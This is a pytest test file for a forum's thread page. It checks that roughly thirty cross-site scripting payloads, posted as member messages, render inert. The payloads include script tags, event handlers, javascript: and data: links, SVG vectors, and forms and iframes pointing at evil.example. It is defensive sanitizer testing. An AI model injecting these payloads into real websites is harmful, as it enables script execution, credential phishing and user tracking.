"""Whatever a member types, the thread page shows it inert: checked on the rendered HTML."""

from html.parser import HTMLParser

import pytest

from tests.discussions.conftest import say, signed_in, thread_url

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="#" onclick="alert(1)">klik</a>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](javascript&#58;alert(1))",
    "[klik]( javascript:alert(1) )",
    "[klik][ref]\n\n[ref]: javascript:alert(1)",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    '[klik](https://ok.example "title" onmouseover=alert(1))',
    '[klik](https://ok.example" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "![pixel](https://tracker.example/p.gif)",
    "![pixel][p]\n\n[p]: https://tracker.example/p.gif",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=code></form>',
    "<!-- <script>alert(1)</script> -->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<a href="https://ok.example" target=_blank>ok</a>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
]
FORBIDDEN_TAGS = {"script", "img", "svg", "math", "style", "iframe", "form", "input", "meta", "body", "div", "object"}
SAFE_SCHEMES = ("http://", "https://", "mailto:")


class BodyParser(HTMLParser):
    """Collects tags and attributes inside the post bodies (<div class="body">) of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.depth = 0
        self.bodies = 0
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if self.depth:
            self.tags.append((tag, attributes))
            self.depth += tag not in {"br", "hr"}
        elif tag == "div" and attributes.get("class") == "body":
            self.depth, self.bodies = 1, self.bodies + 1

    def handle_endtag(self, tag: str) -> None:
        if self.depth:
            self.depth -= 1


@pytest.fixture
def page(world) -> BodyParser:  # type: ignore[no-untyped-def]
    thread = world.thread(world.eva)
    for text in CORPUS:
        say(thread, world.trainer, text)  # a trainer: no rate limit in the way of the corpus
    parser = BodyParser()
    parser.feed(signed_in(world.jonas.membership.user).get(thread_url(thread)).content.decode())
    assert parser.bodies == len(CORPUS)
    return parser


def test_the_corpus_renders_no_dangerous_element(page: BodyParser) -> None:
    assert {tag for tag, _ in page.tags} & FORBIDDEN_TAGS == set()


def test_the_corpus_renders_no_event_handler_or_style_attribute(page: BodyParser) -> None:
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name == "style"], (tag, attributes)


def test_every_link_in_the_corpus_is_http_or_mailto_and_marked_as_user_content(page: BodyParser) -> None:
    links = [attributes for tag, attributes in page.tags if tag == "a"]
    assert links
    for attributes in links:
        href = attributes.get("href")
        assert href is None or href.startswith(SAFE_SCHEMES) or ("://" not in href and ":" not in href), href
        assert attributes.get("rel") == "nofollow ugc noopener"
        assert "target" not in attributes


def test_typed_html_is_shown_as_text(world) -> None:  # type: ignore[no-untyped-def]
    thread = world.thread(world.eva)
    say(thread, world.eva, "Gebruik <b>vet</b> niet zo")
    page = signed_in(world.jonas.membership.user).get(thread_url(thread)).content.decode()
    assert "Gebruik &lt;b&gt;vet&lt;/b&gt; niet zo" in page


def test_markdown_still_works(world) -> None:  # type: ignore[no-untyped-def]
    thread = world.thread(world.eva)
    say(thread, world.eva, "**Vet** en [een link](https://example.org)")
    page = signed_in(world.jonas.membership.user).get(thread_url(thread)).content.decode()
    assert "<strong>Vet</strong>" in page
    assert '<a href="https://example.org" rel="nofollow ugc noopener">een link</a>' in page
